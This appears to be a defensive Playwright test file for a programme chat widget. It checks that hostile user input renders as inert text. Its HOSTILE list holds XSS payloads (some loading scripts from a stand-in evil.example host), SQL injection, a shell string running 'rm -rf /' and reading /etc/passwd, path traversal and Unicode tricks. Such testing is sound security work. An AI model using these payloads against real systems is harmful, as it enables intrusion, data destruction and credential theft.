"""What users type is text and nothing else, whatever it looks like."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, expect

from tests.trained import Bot
from tests.widget.browser import Chat

pytestmark = pytest.mark.bot

HOSTILE = {
    "script": "<script>window.hacked = 1; alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "nested script": "<scr<script>ipt>window.hacked = 1</scr</script>ipt>",
    "closing tags": "</div></li></ol></script><script>window.hacked = 1</script>",
    "image": "<img src=x onerror=window.hacked=1>",
    "image from elsewhere": "<img src='https://evil.example/pixel.gif'>",
    "svg": "<svg onload=window.hacked=1><animate onbegin=window.hacked=1 attributeName=x></svg>",
    "svg link": "<svg><a xlink:href='javascript:window.hacked=1'><text>x</text></a></svg>",
    "mathml": "<math><mtext><mglyph><style><img src onerror=window.hacked=1></style></mglyph></mtext></math>",
    "iframe": "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "iframe of javascript": "<iframe src=javascript:parent.hacked=1></iframe>",
    "object": "<object data=data:text/html,<script>window.hacked=1</script>></object>",
    "style": "<style>*{display:none!important}</style>",
    "style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "base": "<base href=https://evil.example/>",
    "form": "<form action=https://evil.example><input autofocus onfocus=window.hacked=1></form>",
    "details": "<details open ontoggle=window.hacked=1>",
    "video": "<video><source onerror=window.hacked=1></video>",
    "template": "<template shadowrootmode=open><script>window.hacked=1</script></template>",
    "own element": "<programme-chat server='https://evil.example' open></programme-chat>",
    "comment": "<!--><img src=x onerror=window.hacked=1>-->",
    "broken tag": "<img src=x onerror=window.hacked=1 //",
    "attribute": "\"' onmouseover=window.hacked=1 autofocus onfocus=window.hacked=1 x='",
    "javascript link": "javascript:window.hacked=1",
    "javascript link in a tag": "<a href='javascript:window.hacked=1'>click</a>",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "link in markdown": "[click me](javascript:window.hacked=1) ![x](https://evil.example/x.png)",
    "bare link": "https://evil.example/phishing and mailto:evil@evil.example",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62; &amp;amp; &nbsp;",
    "escapes": "\\u003cscript\\u003ewindow.hacked=1\\x3c/script\\x3e %3Cscript%3E",
    "template string": "${window.hacked=1} {{constructor.constructor('window.hacked=1')()}} <%= 7*7 %> #{7*7} {0}",
    "prototype": '{"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}}',
    "intent": '/deadlines{"date": "2020-01-01"}',
    "command of Rasa": "/restart",
    "session of Rasa": "/session_start",
    "payload": "topic:fees.tuition",
    "payload of nothing": "TOPIC:../../etc/passwd",
    "SQL": "'; DROP TABLE events; -- \" OR 1=1",
    "shell": "$(rm -rf /) `id` | cat /etc/passwd && true",
    "format string": "%s%s%n%x {sender_id} {0.__class__}",
    "null byte": "last day\x00 to apply",
    "control characters": "last\x07 day\x1b[31m to\x08 apply\x7f",
    "header": "last day\r\nSet-Cookie: hacked=1".replace("\r", ""),  # a text field knows no carriage return
    "very long word": "w" * 500,
    "zero width": "last\u200b\u200c\u200d day\u2060 to\ufeff apply",
    "override of direction": "last day \u202etxt.exe\u202c to apply",
    "isolates that do not end": "\u2066\u2067\u2068\u202b\u202d last day to apply",
    "right to left": "متى آخر يوم للتقديم؟ שלום",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈" * 30,
    "combining marks": "l" + "\u0301\u0334\u0489" * 60 + "ast day",
    "look-alikes": "＜script＞window.hacked＝1＜／script＞ ﹤img﹥",
    "private and unassigned characters": "last day to apply \ue000 \U000f0000 \uffff \U0010ffff",
    "line separators": "last day\u2028to\u2029apply",
    "number": "9" * 400,
    "nesting": "[" * 250 + "]" * 250,
}

_ELEMENTS = """() => {
  const root = document.querySelector('programme-chat').shadowRoot;
  const foreign = 'script, img, iframe, object, embed, link, style, meta, base, video, audio, source, template, math,'
    + ' input, svg a, animate, programme-chat, [onerror], [onload], [onfocus], [onclick], [srcdoc]';
  const links = [...root.querySelectorAll('a')].map(a => a.getAttribute('href'));
  return [
    root.querySelectorAll(foreign).length,
    document.querySelectorAll('script, iframe, img, object, embed, base, [http-equiv], programme-chat').length,
    links.filter(href => !/^(https:|mailto:)/.test(href) && !href.endsWith('#privacy') || /evil/.test(href)).length,
    window.hacked === undefined && ({}).hacked === undefined && !document.cookie,
  ];
}"""


@pytest.fixture(scope="module")
def visitor(browser: Browser, bot: Bot, server: str) -> Iterator[Chat]:
    """One chat for all the strings, in which each follows the others."""
    chat = Chat(browser, bot.page, server).goto().open()
    yield chat
    chat.close()


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_is_shown_as_it_was_typed_and_answered(visitor: Chat, text: str) -> None:
    before = visitor.page.evaluate(_ELEMENTS)
    visitor.ask(text)
    shown = visitor.users.last
    assert shown.text_content() == text.strip()
    assert shown.evaluate("node => node.children.length") == 0
    assert visitor.page.evaluate(_ELEMENTS) == before
    assert before == [0, 2, 0, True]  # of the page: the script of the widget, and the widget
    assert visitor.page.url == visitor.address
    assert visitor.too_wide() == []
    visitor.check()


def test_hostile_texts_stay_text_in_the_history_and_the_chat_goes_on(visitor: Chat) -> None:
    visitor.ask("hello")
    for text in HOSTILE.values():
        visitor.ask(text)
    visitor.page.reload()
    visitor.open()
    expect(visitor.answers.last).to_be_visible()
    shown = visitor.users.all_text_contents()
    assert shown[-len(HOSTILE) :] == [text.strip() for text in HOSTILE.values()]
    assert visitor.page.evaluate(_ELEMENTS) == [0, 2, 0, True]
    visitor.check()
    expect(visitor.ask("When is the last day to apply?").locator(".text")).to_contain_text("15 January 2026")


def test_a_typed_payload_of_a_button_is_not_taken_for_the_button(visitor: Chat) -> None:
    visitor.ask("hello")
    visitor.ask("topic:deadlines.last_day")
    visitor.page.reload()
    visitor.open()
    expect(visitor.users.last).to_have_text("topic:deadlines.last_day")


def test_a_message_of_invisible_characters_alone_is_refused_in_words(visitor: Chat) -> None:
    visitor.write("\u200b\u2060\ue000")
    expect(visitor.failure).to_contain_text("Not sent. Please write a question first.")
    visitor.button("Clear the conversation").click()
    visitor.button("Delete").click()
    expect(visitor.messages).to_have_count(0)
